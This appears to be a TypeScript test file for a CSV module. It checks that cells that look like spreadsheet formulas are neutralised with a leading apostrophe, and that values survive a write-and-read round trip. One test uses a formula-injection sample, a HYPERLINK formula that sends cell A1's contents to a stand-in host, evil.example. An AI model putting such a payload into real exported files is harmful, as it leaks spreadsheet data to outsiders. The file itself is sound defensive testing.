import assert from 'node:assert/strict'
import { Readable } from 'node:stream'
import { test } from 'node:test'
import { csvLine as csvLineOfConsole } from '../../../faces/kit/csv.ts'
import { fc } from '../../../tests/harness/chance.ts'
import { csvLine, readCsv } from './csv.ts'

async function read(text: string): Promise<string[][]> {
  const lines: string[][] = []
  for await (const { cells } of readCsv(Readable.from([Buffer.from(text)]))) lines.push(cells)
  return lines
}

test('no cell begins with what a spreadsheet would run, whatever a fan has given as a name', () => {
  const attack = '=HYPERLINK("https://evil.example/?"&A1,"Ada")'
  assert.equal(csvLine([attack]), `"'${attack.replaceAll('"', '""')}"\r\n`)
  for (const text of ['=1', '+61 400', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠SUM']) {
    assert.match(csvLine([text]), /^"?'/, JSON.stringify(text))
    assert.match(csvLineOfConsole([text]), /^"?'/, JSON.stringify(text))
  }
})

test('what one program writes into a cell is in no other one for a spreadsheet that separates by semicolons or tabs', () => {
  for (const text of ['Ada;=1+1', 'Ada\t=1+1', ' =1+1', 'Ada\n=1+1']) {
    assert.equal(csvLineOfConsole([text]), csvLine([text]), JSON.stringify(text))
    assert.equal(csvLineOfConsole([text]), `"${text}"\r\n`)
  }
})

test('numbers, and texts that are no formula, stay as they are', () => {
  assert.equal(csvLine([-1, 'O’Hara', "'tHart", 'a=b', true, null]), "-1,O’Hara,'tHart,a=b,true,\r\n")
})

const text = fc.string({
  unit: fc.oneof(
    fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' '),
    fc.string({ maxLength: 1 }),
  ),
  maxLength: 6,
})

test('what was written is read again to the letter', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(text, { minLength: 2, maxLength: 4 }), async (cells) => {
      assert.deepEqual(await read(csvLine(['first', ...cells])), [['first', ...cells]])
    }),
    { numRuns: 500 },
  )
})
